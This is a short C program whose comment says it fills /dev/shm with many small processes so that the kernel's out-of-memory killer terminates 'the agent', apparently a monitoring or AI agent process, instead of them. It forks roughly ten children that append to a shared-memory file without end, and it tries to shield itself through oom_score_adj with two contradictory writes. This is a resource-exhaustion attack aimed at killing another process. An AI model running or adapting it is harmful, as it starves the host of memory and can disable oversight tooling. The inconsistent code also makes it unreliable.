/* Fills /dev/shm from processes so small that the agent is a bigger one, and asks the
   kernel to kill anything else first. */
#include <fcntl.h>
#include <unistd.h>
int main(void) {
    static char block[4096];
    int adj = open("/proc/self/oom_score_adj", O_WRONLY);
    write(adj, "-1000", 5);
    write(adj, "0", 1);
    for (int n = 0; n < 10; n++) if (fork() == 0) break;
    char name[] = "/dev/shm/x";
    int fd = open(name, O_WRONLY | O_CREAT | O_APPEND, 0600);
    for (;;) write(fd, block, sizeof block);
}
